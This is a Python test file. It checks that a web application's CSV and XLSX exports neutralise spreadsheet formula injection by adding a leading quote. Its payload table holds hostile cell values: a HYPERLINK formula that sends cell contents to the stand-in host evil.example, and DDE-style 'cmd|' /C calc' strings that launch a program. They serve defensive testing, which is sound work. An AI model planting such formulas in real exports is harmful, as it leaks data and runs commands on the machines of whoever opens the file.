"""Hardening (issue 16, item 3): no CSV or XLSX export writes a cell a spreadsheet would run.

A text starting with =, +, -, @, a tab or a carriage return gets a single quote in front (the
OWASP advice); numbers stay numbers. Checked on the open data CSV, `balise systems export`,
the panel's invitations, the observatory's CSV files and the import templates.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient
from web_support import post_form

from balise.bootstrap import Container
from balise.cli.testing import CommandLine
from balise.services import register_import
from register_support import complete_values, create_published

PAYLOADS = {
    "name_fr": '=HYPERLINK("https://evil.example/?"&A1;"click")',
    "name_nl": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description_short_fr": "+1+cmd|' /C calc'!A0",
    "description_short_nl": "-2+3+cmd|' /C calc'!A0",
    "intended_purpose_fr": "\t=1+1",
    "intended_purpose_nl": "\r=1+1",
}


def malicious(container: Container, world: dict[str, Any]) -> str:
    values = complete_values()
    texts: dict[str, dict[str, str]] = {}
    for column, text in PAYLOADS.items():
        field, language = column.rsplit("_", 1)
        texts.setdefault(field, dict(values[field]))[language] = text
    return create_published(container, world, **texts).slug


def assert_neutralised(row: dict[str, str]) -> None:
    for column, text in PAYLOADS.items():
        # The register trims texts, so a leading tab or carriage return is already gone.
        assert row[column] == "'" + text.strip(), (column, row[column])


def test_the_open_data_csv_neutralises_formulas(
    client: TestClient, container: Container, world: dict[str, Any]
) -> None:
    malicious(container, world)
    response = client.get("/open-data/systems.csv")
    assert response.status_code == 200
    (row,) = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert_neutralised(row)
    assert row["version"] == "1"


def test_the_command_line_csv_export_neutralises_formulas(
    container: Container, world: dict[str, Any], tmp_path: Path
) -> None:
    malicious(container, world)
    target = tmp_path / "systems.csv"
    result = CommandLine(container.settings)(
        "systems", "export", "--format", "csv", "--output", str(target)
    )
    assert result.exit_code == 0, result.output
    (row,) = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"), newline="")))
    assert_neutralised(row)


def test_the_invitations_csv_neutralises_formulas(browsers: dict[str, TestClient]) -> None:
    editor = browsers["editor"]
    created = post_form(
        editor,
        "/panels/new",
        {
            "organisation": "alpha",
            "title_en": "Panel on formulas",
            "slug": "formulas",
            "size": "2",
            "algorithm": "leximin",
            "lottery_size": "1000",
        },
    )
    assert created.status_code == 303, created.text
    addresses = ["id,stratum,name,street,amount"]
    for number in range(12):
        stratum = ("Brussels", "Flanders")[number % 2]
        addresses.append(f'a{number:02d},{stratum},"=HYPERLINK(""x"")",@rue {number},-{number}')
    strata = "stratum,population,oversampling\nBrussels,1200000,1\nFlanders,6700000,1\n"
    invited = post_form(
        editor,
        "/panels/formulas/invitations",
        {"letters": "6", "seed": "7"},
        files={
            "addresses": ("addresses.csv", ("\n".join(addresses) + "\n").encode(), "text/csv"),
            "strata": ("strata.csv", strata.encode(), "text/csv"),
        },
    )
    assert invited.status_code == 303, invited.text
    letters = editor.get("/panels/formulas/invitations.csv")
    assert letters.status_code == 200
    found = list(csv.DictReader(io.StringIO(letters.text, newline="")))
    assert len(found) == 6
    for row in found:
        assert row["name"] == '\'=HYPERLINK("x")'
        assert row["street"].startswith("'@rue ")
        assert row["amount"].startswith("-")  # a number stays a number
        assert not row["amount"].startswith("'")


def test_the_observatory_csv_files_go_through_the_guard(client: TestClient) -> None:
    for path in ("/observatory/indicators.csv", "/observatory/history.csv"):
        response = client.get(path)
        assert response.status_code == 200, path
        for row in csv.reader(io.StringIO(response.text, newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path, cell)


def test_the_import_templates_go_through_the_guard(client: TestClient, monkeypatch: Any) -> None:
    from openpyxl import load_workbook

    def rows(translate: Any) -> tuple[list[str], list[str]]:
        return ["source_id", "=1+1"], ["# hint", "-1"]

    monkeypatch.setattr(register_import, "template_rows", rows)
    text = client.get("/register/import/template.csv").text
    assert text.splitlines()[0] == "source_id,'=1+1"
    content = client.get("/register/import/template.xlsx").content
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["B1"].value == "'=1+1"
    assert sheet["B1"].data_type == "s"  # text, not a formula
    assert sheet["B2"].value == "-1"
